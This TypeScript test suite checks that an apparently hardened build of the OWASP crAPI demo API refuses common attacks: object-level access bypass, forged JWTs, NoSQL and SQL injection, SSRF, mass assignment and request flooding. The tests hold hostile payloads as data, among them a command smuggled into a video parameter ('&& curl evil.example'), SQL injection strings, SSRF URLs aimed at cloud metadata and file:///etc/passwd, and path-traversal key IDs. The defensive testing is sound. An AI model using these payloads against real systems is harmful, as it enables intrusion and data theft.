import { createServer } from "node:http";
import { randomUUID } from "node:crypto";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ServerPolicy } from "../../src/runtime/core/policy.js";
import { openDatabase } from "../support/postgres.js";
import { sharedIsPresent, sharedNote } from "../support/shared.js";
import { found, type Answer, type Call } from "./crapi/call.js";
import { hmacSigned, opened, ownKeys, publicSpellings, rsaSigned, unsigned } from "./crapi/forge.js";
import { buildProject, type Project } from "./crapi/project.js";
import { createWorld, ok, type Customer, type World } from "./crapi/world.js";

interface Flow {
  honestDay(around: {
    readonly baseUrl: string;
    readonly mail: (to: string) => string;
    readonly mechanicCode: string;
    readonly mechanicToken: string;
    readonly productId: number;
    readonly coupon: World["coupon"];
  }): Promise<void>;
}

const videos = "/identity/api/v2/user/videos";
const orders = "/workshop/api/shop/orders";
const posts = "/community/api/v2/community/posts";
const report = "/workshop/api/mechanic/mechanic_report?report_id=";
const contact = "/workshop/api/merchant/contact_mechanic";

describe.skipIf(!sharedIsPresent)(`OWASP crAPI behind its fence${sharedNote}`, { timeout: 120_000 }, () => {
  let project: Project;
  const running: { close(): Promise<unknown> }[] = [];
  let world: World;

  beforeAll(async () => {
    project = await buildProject();
    const database = await openDatabase(project.schema);
    running.push(database);
    world = await createWorld(project.output, database.source);
    running.push(world.server);
  }, 600_000);

  afterAll(async () => {
    for (const each of running.reverse()) await each.close();
  });

  const as = async ({ token }: { readonly token: string }, call: Call): Promise<Answer> =>
    world.call({ ...call, token });

  async function newVideo(owner: Customer): Promise<number> {
    const body = { name: "holiday.mp4", file: "AAAA" };
    return Number(found(await ok(as(owner, { method: "POST", path: videos, body })), "id"));
  }

  async function newOrder(owner: Customer): Promise<number> {
    const body = { product_id: world.productId, quantity: 1 };
    return Number(found(await ok(as(owner, { method: "POST", path: orders, body })), "id"));
  }

  const complaint = (owner: Customer): Record<string, unknown> => ({
    vin: owner.vehicle.vin,
    mechanic_code: world.mechanic.code,
    mechanic_api: "https://workshop.crapi.example.com/workshop/api/mechanic/receive_report",
    number_of_repeats: 0,
    repeat_request_if_failed: false,
    problem_details: "It rattles.",
  });

  async function newReport(owner: Customer): Promise<number> {
    return Number(
      found(await ok(as(owner, { method: "POST", path: contact, body: complaint(owner) })), "id"),
    );
  }

  async function expectMissing(theirs: Answer, missing: Answer): Promise<void> {
    expect(theirs.status).toBe(404);
    expect(theirs.text).toBe(missing.text);
    expect([...theirs.headers.keys()].sort()).toEqual([...missing.headers.keys()].sort());
  }

  it("serves one customer's honest day to a client with the types of crAPI's own document", async () => {
    const flow = (await import(pathToFileURL(path.join(project.output, "client/flow.js")).href)) as Flow;
    await flow.honestDay({
      baseUrl: world.baseUrl,
      mail: (to) => world.mailbox.latest(to)?.text ?? "",
      mechanicCode: world.mechanic.code,
      mechanicToken: world.mechanic.token,
      productId: world.productId,
      coupon: world.coupon,
    });
  });

  describe("broken object level authorization", () => {
    it("[C21] [C22] [C76] hides the location of somebody else's vehicle, whose UUID is known", async () => {
      const location = (uuid: string): Call => ({ path: `/identity/api/v2/vehicle/${uuid}/location` });
      expect((await as(world.victim, location(world.victim.vehicle.uuid))).status).toBe(200);
      const theirs = await as(world.attacker, location(world.victim.vehicle.uuid));
      await expectMissing(theirs, await as(world.attacker, location(randomUUID())));
    });

    it("[C21] [C22] [C24] shows a mechanic's report to the vehicle's owner and the assigned mechanic alone", async () => {
      const id = await newReport(world.victim);
      expect((await as(world.victim, { path: report + String(id) })).status).toBe(200);
      expect((await as(world.mechanic, { path: report + String(id) })).status).toBe(200);
      const missing = await as(world.attacker, { path: `${report}999999` });
      for (let guess = 1; guess <= id; guess += 1) {
        await expectMissing(await as(world.attacker, { path: report + String(guess) }), missing);
        await expectMissing(await as(world.otherMechanic, { path: report + String(guess) }), missing);
      }
    });

    it("[C21] [C22] refuses reports about somebody else's vehicle", async () => {
      const body = complaint(world.victim);
      expect((await as(world.attacker, { method: "POST", path: contact, body })).status).toBe(404);
      const query = new URLSearchParams({
        vin: world.victim.vehicle.vin,
        mechanic_code: world.mechanic.code,
        problem_details: "x",
      });
      const receive = `/workshop/api/mechanic/receive_report?${query.toString()}`;
      expect((await as(world.attacker, { path: receive })).status).toBe(404);
      expect((await as(world.victim, { path: receive })).status).toBe(200);
    });

    it("[C21] [C22] [C24] keeps orders to who placed them: read, change, return, list", async () => {
      const id = await newOrder(world.victim);
      const body = { product_id: world.productId, quantity: 1 };
      for (const [method, of] of [
        ["GET", (order: number) => `${orders}/${String(order)}`],
        ["PUT", (order: number) => `${orders}/${String(order)}`],
        ["POST", (order: number) => `${orders}/return_order?order_id=${String(order)}`],
      ] as const) {
        const call = (order: number): Call => ({
          method,
          path: of(order),
          ...(method === "PUT" ? { body } : {}),
        });
        await expectMissing(await as(world.attacker, call(id)), await as(world.attacker, call(999_999)));
        expect((await as(world.victim, call(id))).status, method).toBe(200);
      }
      const all = `${orders}/all?limit=100&offset=0`;
      expect((await as(world.victim, { path: all })).text).toContain(`"id":${String(id)},`);
      expect((await as(world.attacker, { path: all })).text).not.toContain(world.victim.email);
    });

    it("[C21] [C22] [C24] keeps videos to who uploaded them: read, change, convert, delete", async () => {
      const id = await newVideo(world.victim);
      for (const [method, of, body] of [
        ["GET", (video: number) => `${videos}/${String(video)}`, undefined],
        ["PUT", (video: number) => `${videos}/${String(video)}`, { videoName: "mine" }],
        ["GET", (video: number) => `${videos}/convert_video?video_id=${String(video)}`, undefined],
        ["DELETE", (video: number) => `${videos}/${String(video)}`, undefined],
      ] as const) {
        const call = (video: number): Call => ({ method, path: of(video), body });
        await expectMissing(await as(world.attacker, call(id)), await as(world.attacker, call(999_999)));
        expect((await as(world.victim, call(id))).status, method).toBe(200);
      }
      expect((await as(world.victim, { path: `${videos}/${String(id)}` })).status).toBe(404);
    });
  });

  describe("broken authentication", () => {
    const refused = async (token: string): Promise<void> => {
      const plain = await world.call({ path: "/identity/api/v2/user/dashboard" });
      const answer = await world.call({ path: "/identity/api/v2/user/dashboard", token });
      expect(answer.status).toBe(401);
      expect(answer.text).toBe(plain.text);
    };

    it("[C12] [C13] asks for a token on every operation that is not declared public, service reports included", async () => {
      const { policy } = (await import(
        pathToFileURL(path.join(project.output, "src/api/policy.js")).href
      )) as { policy: ServerPolicy };
      const closed = Object.values(policy.operations).filter(
        ({ authentication }) => authentication.kind !== "public",
      );
      expect(closed.map(({ path: template }) => template)).toContain("/workshop/api/mechanic/receive_report");
      expect(closed.length).toBeGreaterThan(30);
      for (const { method, path: template } of closed) {
        const call = {
          method,
          path: template.replace(/\{\w+\}/g, "1"),
          ...(method === "GET" ? {} : { body: {} }),
        };
        expect((await world.call(call)).status, `${method} ${template}`).toBe(401);
      }
    });

    it("[C16] [C17] [C50] [C52] stops guessing one-time codes, on v2 as on v3", async () => {
      const email = world.victim.email;
      const reset = { method: "POST", path: "/identity/api/auth/forget-password", body: { email } };
      expect((await world.call(reset)).status).toBe(200);
      const otp = /OTP: (\d{4})/.exec(world.mailbox.latest(email)?.text ?? "")?.[1] ?? "";
      const check = (version: string, code: string): Promise<Answer> =>
        world.call({
          method: "POST",
          path: `/identity/api/auth/${version}/check-otp`,
          body: { email, otp: code, password: "stolen password" },
        });
      const statuses = [];
      for (let guess = 1; guess <= 6; guess += 1) {
        statuses.push((await check("v2", String((Number(otp) + guess) % 10_000).padStart(4, "0"))).status);
      }
      expect(statuses).toEqual([401, 401, 401, 401, 401, 429]);
      const right = await check("v2", otp);
      expect(right.status).toBe(429);
      expect(right.headers.get("retry-after")).toMatch(/^[1-9]\d*$/);
      expect((await check("v3", otp)).status).toBe(429);
    });

    it("[C16] [C17] [C50] stops guessing passwords of one account", async () => {
      const guess = (): Promise<Answer> =>
        world.call({
          method: "POST",
          path: "/identity/api/auth/login",
          body: { email: "nobody@example.com", password: "guess" },
        });
      const statuses = [];
      for (let attempt = 1; attempt <= 6; attempt += 1) statuses.push((await guess()).status);
      expect(statuses).toEqual([401, 401, 401, 401, 401, 429]);
    });

    it("[C46] does not tell who has an account when a password is forgotten", async () => {
      const forgot = (email: string): Promise<Answer> =>
        world.call({ method: "POST", path: "/identity/api/auth/forget-password", body: { email } });
      expect((await forgot("nobody.here@example.com")).text).toBe((await forgot(world.attacker.email)).text);
      expect(world.mailbox.latest("nobody.here@example.com")).toBeUndefined();
    });

    it("[C18] refuses tokens that are signed with HS256 and the public key", async () => {
      const { header, claims } = opened(world.victim.token);
      for (const secret of publicSpellings(world.tokens.publicKeys)) {
        await refused(hmacSigned({ ...header, alg: "HS256" }, claims, secret));
      }
    });

    it("[C18] refuses `alg: none` in every spelling", async () => {
      const { header, claims } = opened(world.victim.token);
      for (const alg of ["none", "None", "NONE", "nOnE", ""])
        await refused(unsigned({ ...header, alg }, claims));
      const [head = "", body = ""] = world.victim.token.split(".");
      await refused(`${head}.${body}.`);
    });

    it("[C18] follows no `jku`, `x5u` or `jwk` of the token's own", async () => {
      const { key, jwk } = ownKeys();
      let asked = 0;
      const trap = createServer((_, response) => {
        asked += 1;
        response
          .setHeader("content-type", "application/json")
          .end(JSON.stringify({ keys: [{ ...jwk, kid: "attacker" }] }));
      });
      await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
      const address = trap.address();
      const url = `http://127.0.0.1:${String(typeof address === "object" ? address?.port : "")}/jwks.json`;
      const { header, claims } = opened(world.victim.token);
      for (const extra of [{ jku: url }, { x5u: url }, { jwk }, { jku: url, kid: "attacker" }]) {
        await refused(rsaSigned({ ...header, ...extra }, claims, key));
      }
      await new Promise((resolve) => trap.close(resolve));
      expect(asked).toBe(0);
    });

    it("[C18] takes `kid` as a name, not as a path or a query", async () => {
      const { claims } = opened(world.victim.token);
      const { key } = ownKeys();
      const injected = "x' UNION SELECT 'secret' -- ";
      for (const [kid, secret] of [
        ["../../../../dev/null", ""],
        ["/dev/null", "\0"],
        ["../../../../../../proc/sys/kernel/randomize_va_space", "2\n"],
        [injected, "secret"],
        ["__proto__", ""],
      ] as const) {
        await refused(hmacSigned({ alg: "HS256", kid }, claims, secret));
        await refused(rsaSigned({ alg: "RS256", kid }, claims, key));
      }
    });

    it("[C18] [C19] refuses changed claims, foreign signatures, and tokens that are expired or meant for others", async () => {
      const { header, claims } = opened(world.attacker.token);
      const { key } = ownKeys();
      const [head, , signature] = world.attacker.token.split(".");
      const promoted = Buffer.from(JSON.stringify({ ...claims, roles: ["ROLE_ADMIN"] })).toString(
        "base64url",
      );
      await refused(`${String(head)}.${promoted}.${String(signature)}`);
      await refused(rsaSigned(header, claims, key));
      await refused(await world.tokens.issue({ subject: "administrator", role: "ROLE_ADMIN" }, -60));
    });
  });

  describe("broken object property level authorization", () => {
    it("[C43] [C45] shows a post's author without email and vehicle", async () => {
      const body = { title: "For sale", content: "Nearly new." };
      const created = await ok(as(world.victim, { method: "POST", path: posts, body }));
      const post = `${posts}/${String(found(created, "id"))}`;
      const commented = await ok(
        as(world.victim, { method: "POST", path: `${post}/comment`, body: { content: "Still here." } }),
      );
      const read = await ok(as(world.attacker, { path: post }));
      const recent = await ok(as(world.attacker, { path: `${posts}/recent?limit=10&offset=0` }));
      for (const answer of [created, commented, read, recent]) {
        expect(answer.text).toContain('"nickname":"victim"');
        expect(answer.text).not.toMatch(/vehicleid|"email"|victim@/);
      }
    });

    it("[C38] [C43] [C72] neither takes nor shows the parameters of a video's conversion", async () => {
      const path = `${videos}/${String(await newVideo(world.attacker))}`;
      for (const body of [
        { conversion_params: "-v codec h264 && curl evil.example" },
        { videoName: "renamed.mp4", conversion_params: "x" },
        { id: 1, videoName: "renamed.mp4" },
      ]) {
        const answer = await as(world.attacker, { method: "PUT", path, body });
        expect(answer.status).toBe(400);
        expect(answer.text).toMatch(/conversion_params|id/);
      }
      const renamed = await ok(
        as(world.attacker, { method: "PUT", path, body: { videoName: "renamed.mp4" } }),
      );
      expect(renamed.text).toContain("renamed.mp4");
      for (const answer of [renamed, await ok(as(world.attacker, { path }))]) {
        expect(answer.text).not.toMatch(/conversion_params|codec/);
      }
    });

    it("[C33] [C38] [C72] lets nobody return an order by its body, or order less than one", async () => {
      const credit = async (): Promise<unknown> =>
        found(await ok(as(world.attacker, { path: "/identity/api/v2/user/dashboard" })), "available_credit");
      const path = `${orders}/${String(await newOrder(world.attacker))}`;
      const before = await credit();
      const order = { product_id: world.productId, quantity: 1 };
      for (const body of [
        { ...order, status: "returned" },
        { ...order, price_paid: 0 },
        { ...order, user: { email: world.victim.email } },
        { ...order, quantity: -100 },
        { ...order, quantity: 0 },
        { ...order, quantity: 0.5 },
        { ...order, quantity: "1" },
      ]) {
        expect((await as(world.attacker, { method: "PUT", path, body })).status, JSON.stringify(body)).toBe(
          400,
        );
        expect(
          (await as(world.attacker, { method: "POST", path: orders, body })).status,
          JSON.stringify(body),
        ).toBe(400);
      }
      expect(await credit()).toBe(before);
      expect(found(await as(world.attacker, { path }), "status")).toBe("delivered");
    });

    it("[C38] [C72] takes neither role nor credit at signup", async () => {
      const person = { email: "eve@example.com", name: "Eve", number: "5550123", password: "eve's password" };
      for (const extra of [
        { role: "ROLE_ADMIN" },
        { available_credit: 1_000_000 },
        { subject: "administrator" },
      ]) {
        const body = { ...person, ...extra };
        const answer = await world.call({ method: "POST", path: "/identity/api/auth/signup", body });
        expect(answer.status).toBe(400);
        expect(answer.text).toContain(Object.keys(extra)[0]);
      }
    });
  });

  describe("broken function level authorization", () => {
    it("[C27] [C28] lets administrators alone delete other people's videos", async () => {
      const id = await newVideo(world.victim);
      const path = `/identity/api/v2/admin/videos/${String(id)}`;
      expect((await as(world.attacker, { method: "DELETE", path })).status).toBe(403);
      expect((await as(world.mechanic, { method: "DELETE", path })).status).toBe(403);
      expect((await as(world.victim, { path: `${videos}/${String(id)}` })).status).toBe(200);
      expect((await as({ token: world.admin }, { method: "DELETE", path })).status).toBe(200);
      expect((await as(world.victim, { path: `${videos}/${String(id)}` })).status).toBe(404);
    });

    it("[C27] keeps users, products and coupons to administrators, service requests to mechanics", async () => {
      for (const call of [
        { path: "/workshop/api/management/users/all" },
        {
          method: "POST",
          path: "/workshop/api/shop/products",
          body: { name: "Free", price: "0.01", image_url: "images/x.svg" },
        },
        {
          method: "POST",
          path: "/community/api/v2/coupon/new-coupon",
          body: { coupon_code: "FREE", amount: 1000 },
        },
        { path: "/workshop/api/mechanic/service_requests?limit=10&offset=0" },
      ]) {
        expect((await as(world.attacker, call)).status, call.path).toBe(403);
      }
      const users = await ok(as({ token: world.admin }, { path: "/workshop/api/management/users/all" }));
      expect(users.text).toContain(world.victim.email);
      expect(users.text).not.toMatch(/password|scrypt/);
    });
  });

  describe("injection and forged requests", () => {
    it("[C32] takes no operators for a coupon (NoSQL injection)", async () => {
      for (const coupon_code of [{ $ne: 1 }, { $gt: "" }, { $regex: ".*" }, ["TRAC075"], null, true]) {
        const call = {
          method: "POST",
          path: "/community/api/v2/coupon/validate-coupon",
          body: { coupon_code },
        };
        const answer = await as(world.attacker, call);
        expect(answer.status).toBe(400);
        expect(answer.text).not.toContain("TRAC075");
      }
    });

    it("[C33] [C39] takes SQL for text: refused where a code is meant, stored where words are", async () => {
      const apply = (coupon_code: string): Promise<Answer> =>
        as(world.attacker, {
          method: "POST",
          path: "/workshop/api/shop/apply_coupon",
          body: { coupon_code, amount: 75 },
        });
      for (const code of [
        "TRAC075' OR '1'='1",
        "'; SELECT version(); --",
        "x' UNION SELECT password FROM accounts --",
      ]) {
        const answer = await apply(code);
        expect(answer.status).toBe(400);
        expect(answer.text).not.toMatch(/PostgreSQL|scrypt/);
      }
      expect((await apply("NOSUCHCODE")).status).toBe(404);
      const content = "'); DROP TABLE posts; --";
      const post = await ok(
        as(world.attacker, { method: "POST", path: posts, body: { title: content, content } }),
      );
      expect(found(post, "content")).toBe(content);
      expect((await as(world.attacker, { path: `${posts}/recent` })).status).toBe(200);
    });

    it("[C33] sends the server nowhere but to the workshop (SSRF)", async () => {
      const before = world.workshop.calls.length;
      for (const mechanic_api of [
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8888/identity/health_check",
        "http://workshop.crapi.example.com/",
        "https://workshop.crapi.example.com@evil.example/",
        "https://workshop.crapi.example.com.evil.example/",
        "https://workshop.crapi.example.com:8443/",
        "https://evil.example/#https://workshop.crapi.example.com/",
        "https://evil.example/\nhttps://workshop.crapi.example.com/",
        "https://workshop.crapi.example.com/\\@evil.example/",
        "file:///etc/passwd",
        "",
      ]) {
        const body = { ...complaint(world.attacker), mechanic_api };
        const answer = await as(world.attacker, { method: "POST", path: contact, body });
        expect(answer.status, mechanic_api).toBe(400);
      }
      expect(world.workshop.calls.length).toBe(before);
    });

    it("[C33] [C50] bounds how often a workshop is asked again, and how often anybody asks (layer-7 DoS)", async () => {
      const before = world.workshop.calls.length;
      for (const number_of_repeats of [10_000, 6, -1, 1e308, "5"]) {
        const body = { ...complaint(world.victim), number_of_repeats, repeat_request_if_failed: true };
        const answer = await as(world.victim, { method: "POST", path: contact, body });
        expect(answer.status).toBe(400);
      }
      const statuses = [];
      for (let attempt = 0; attempt < 21; attempt += 1) {
        statuses.push((await as(world.victim, { method: "POST", path: contact, body: {} })).status);
      }
      expect(statuses.at(-1)).toBe(429);
      expect(world.workshop.calls.length).toBe(before);
    });

    it("[C33] [C34] bounds pages", async () => {
      for (const query of [
        "limit=101&offset=0",
        "limit=-1&offset=0",
        "limit=10&offset=-1",
        "limit=1e9&offset=0",
      ]) {
        expect((await as(world.attacker, { path: `${orders}/all?${query}` })).status, query).toBe(400);
      }
    });
  });

  it("[C46] answers mistakes as problem details without a stack or a database's words", async () => {
    for (const call of [
      { method: "POST", path: "/identity/api/auth/login", body: '{"email":' },
      { method: "POST", path: "/identity/api/auth/login", body: { email: "a\0b", password: "x" } },
      { method: "POST", path: "/identity/api/auth/login", body: [] },
      { path: `${videos}/not-a-number` },
      { path: `${videos}/99999999999999999999` },
      { path: `${posts}/%00` },
      { path: `${posts}/%ff` },
      { path: "/identity/api/v2/vehicle/x/location" },
      { path: "/nowhere" },
    ]) {
      const answer = await as(world.attacker, call);
      expect(answer.status, call.path).toBeGreaterThanOrEqual(400);
      expect(answer.status, call.path).toBeLessThan(500);
      expect(answer.headers.get("content-type")).toMatch(/^application\/problem\+json/);
      expect(answer.text).not.toMatch(/\bat .*\.(?:ts|js)|Error:|kysely|postgres|syntax error/i);
    }
  });

  it("[C55] [C61] [C63] [C65] leaves attempts in the log, without tokens, passwords or emails", () => {
    const text = world.log.join("");
    for (const event of [
      "malicious_direct_reference",
      "excess_rate_limit_exceeded",
      "authz_fail",
      "input_validation_fail",
    ]) {
      expect(text).toContain(event);
    }
    const { victim, attacker, admin } = world;
    for (const secret of [
      victim.token,
      attacker.token,
      admin,
      "password of",
      victim.email,
      victim.vehicle.vin,
    ]) {
      expect(text).not.toContain(secret);
    }
  });
});
